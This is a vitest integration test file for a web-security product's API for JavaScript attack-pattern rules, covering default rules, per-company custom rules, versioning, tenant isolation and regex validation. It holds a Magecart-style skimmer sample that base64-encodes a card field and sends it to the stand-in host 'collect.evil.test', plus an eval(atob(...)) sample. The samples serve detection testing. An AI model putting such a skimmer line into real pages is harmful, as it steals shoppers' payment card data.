// The JS attack-pattern operations against the real server: Vigil's defaults are there on start,
// a company switches one off for itself only, writes its own rules (each edit a new version, a bad
// regex a 422 with RE2's reason), tests a pasted script, and never writes a default rule nor reads
// or writes another company's rule.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answerOf, validationOf } from '../../../testing/api.js';
import { json } from '../../../testing/flows.js';
import { newTenant, type Tenant } from '../../../testing/monitoring.js';
import { openTestDatabase, type TestDatabase, testApp, type VigilApp } from '../../../testing/test-app.js';
import { defaultRules } from './rules.defaults.js';
import { loadRuleSet } from './rules.match.js';

let database: TestDatabase;
let app: VigilApp;
let admin: Tenant;
let analyst: Tenant;
let viewer: Tenant;
let other: Tenant;

const skimmerRule = {
  name: 'Our exfil host',
  family: 'Magecart skimmer',
  severity: 'high',
  reference: 'https://example.org/write-up',
  definition: { conditions: [{ id: 'host', target: 'content', op: 'contains', value: 'collect.evil.test' }] },
};

const rules = async (who: Tenant, query = '') => {
  const response = await who.browser.get(`/api/js-rules?page_size=100&${query}`, { token: who.token });
  expect(response.statusCode, response.body).toBe(200);
  return answerOf('listJsRules', response);
};
const post = (who: Tenant, path: string, body: unknown) => who.browser.post(`/api${path}`, body, { token: who.token });
const put = (who: Tenant, path: string, body: unknown) =>
  who.browser.call('PUT', `/api${path}`, { body, token: who.token });
const remove = (who: Tenant, path: string) => who.browser.call('DELETE', `/api${path}`, { token: who.token });

beforeAll(async () => {
  database = await openTestDatabase();
  ({ app } = await testApp(database));
  admin = await newTenant(app, 'jsrules', { role: 'administrator' });
  analyst = await newTenant(app, 'jsrules', { join: admin, role: 'analyst' });
  viewer = await newTenant(app, 'jsrules', { join: admin, role: 'viewer' });
  other = await newTenant(app, 'jsrulesother', { role: 'administrator' });
}, 60_000);
afterAll(async () => {
  await app?.close();
  await database?.close();
});

describe('JS attack-pattern rules', () => {
  it('has Vigil’s defaults on start, filterable, for every company', async () => {
    const all = await rules(viewer);
    expect(all.data.filter((r) => r.owner === 'vigil').map((r) => r.key)).toEqual(
      defaultRules.map((r) => r.key).sort(),
    );
    expect(all.data.every((r) => r.enabled && r.version === 1 && r.hits === 0)).toBe(true);
    expect(all.families).toContain('Typosquatting');
    const typo = await rules(viewer, 'family=Typosquatting&severity=critical');
    expect(typo.data.map((r) => r.key)).toEqual(['VGL-TYPO-001', 'VGL-TYPO-002']);
    expect((await rules(other)).meta.total).toBe(defaultRules.length);
  });

  it('switches a default rule off for this company only, and refuses to edit or delete it', async () => {
    const target = (await rules(analyst, 'q=VGL-OBF-001')).data[0];
    expect(target?.owner).toBe('vigil');
    const off = await put(analyst, `/js-rules/${target?.id}/enabled`, { enabled: false });
    expect(off.statusCode, off.body).toBe(200);
    expect(answerOf('setJsRuleEnabled', off).data.enabled).toBe(false);
    expect((await rules(admin, 'enabled=false')).data.map((r) => r.key)).toEqual(['VGL-OBF-001']);
    expect((await rules(other, 'enabled=false')).data).toEqual([]);
    const ruleSet = await loadRuleSet(app.ctx.db, admin.companyId);
    expect(ruleSet.size).toBe(defaultRules.length - 1);

    const edit = await put(admin, `/js-rules/${target?.id}`, skimmerRule);
    expect(edit.statusCode).toBe(409);
    expect(json(edit).message).toMatch(/default rules cannot be changed/);
    expect((await remove(admin, `/js-rules/${target?.id}`)).statusCode).toBe(409);
    expect((await put(analyst, `/js-rules/${target?.id}/enabled`, { enabled: true })).statusCode).toBe(200);
  });

  it('creates, versions, tests and deletes a rule of the company’s own', async () => {
    const created = await post(analyst, '/js-rules', skimmerRule);
    expect(created.statusCode, created.body).toBe(201);
    const rule = answerOf('createJsRule', created).data;
    expect(rule).toMatchObject({ key: 'CUS-001', owner: 'company', version: 1, enabled: true });

    const changed = await put(analyst, `/js-rules/${rule.id}`, { ...skimmerRule, name: 'Our exfil hosts' });
    expect(answerOf('updateJsRule', changed).data).toMatchObject({ version: 2, name: 'Our exfil hosts' });
    const detail = await admin.browser.get(`/api/js-rules/${rule.id}`, { token: admin.token });
    const versions = answerOf('getJsRule', detail).data.versions;
    expect(versions.map((v) => [v.version, v.name])).toEqual([
      [2, 'Our exfil hosts'],
      [1, 'Our exfil host'],
    ]);
    expect(versions[0]?.changed_by).toMatch(/^Analyst jsrules/);

    const tested = await post(analyst, '/js-rules/test', {
      script: 'var i = new Image(); i.src = "https://collect.evil.test/c?d=" + btoa(card.value);',
    });
    expect(tested.statusCode, tested.body).toBe(200);
    const hits = answerOf('testJsRules', tested).data;
    expect(hits.rules_run).toBe(defaultRules.length + 1);
    expect(hits.hits.map((h) => h.key).sort()).toEqual(['CUS-001', 'VGL-EXFIL-001', 'VGL-EXFIL-002']);
    expect(hits.hits.find((h) => h.key === 'CUS-001')?.excerpt).toContain('collect.evil.test');

    expect((await other.browser.get(`/api/js-rules/${rule.id}`, { token: other.token })).statusCode).toBe(404);
    expect((await put(other, `/js-rules/${rule.id}`, skimmerRule)).statusCode).toBe(404);
    expect((await put(other, `/js-rules/${rule.id}/enabled`, { enabled: false })).statusCode).toBe(404);
    expect((await remove(other, `/js-rules/${rule.id}`)).statusCode).toBe(404);
    expect((await rules(other, 'owner=company')).data).toEqual([]);

    expect((await remove(analyst, `/js-rules/${rule.id}`)).statusCode).toBe(200);
    expect((await rules(admin, 'owner=company')).data).toEqual([]);
  });

  it('refuses a regex RE2 cannot run, a condition that does not fit its target, and a viewer’s write', async () => {
    const lookahead = await post(admin, '/js-rules', {
      ...skimmerRule,
      definition: { conditions: [{ id: 'x', target: 'content', op: 'regex', value: 'card(?=number)' }] },
    });
    expect(lookahead.statusCode).toBe(422);
    expect(validationOf(lookahead).errors['definition.conditions.0.value']?.[0]).toMatch(/does not compile.*\(\?=/);
    const mismatch = await post(admin, '/js-rules/test', {
      script: 'x',
      definition: { conditions: [{ id: 'x', target: 'behaviour', op: 'regex', value: 'a' }] },
    });
    expect(validationOf(mismatch).errors).toEqual({
      'definition.conditions.0.op': ['A behaviour condition takes is.'],
    });
    const atLeast = await post(admin, '/js-rules', {
      ...skimmerRule,
      definition: { match: 'at_least', at_least: 3, conditions: skimmerRule.definition.conditions },
    });
    expect(Object.keys(validationOf(atLeast).errors)).toEqual(['definition.at_least']);
    expect((await post(viewer, '/js-rules', skimmerRule)).statusCode).toBe(403);
  });

  it('tests a draft definition over a 1 MiB script in bounded time', async () => {
    const script = `${'var a = 1;\n'.repeat(95_000)}eval(atob("eA=="));`.slice(-1_048_576);
    const tested = await post(admin, '/js-rules/test', {
      script,
      definition: {
        match: 'all',
        conditions: [
          { id: 'slow', target: 'content', op: 'regex', value: '(a+)+b' },
          { id: 'eval', target: 'content', op: 'contains', value: 'EVAL(ATOB' },
        ],
      },
    });
    expect(tested.statusCode, tested.body).toBe(200);
    const data = answerOf('testJsRules', tested).data;
    expect(data.hits).toEqual([]);
    expect(data.duration_ms).toBeLessThan(5_000);
    const tooLong = await post(admin, '/js-rules/test', { script: 'x'.repeat(1_048_577) });
    expect(tooLong.statusCode).toBe(422);
  });
});
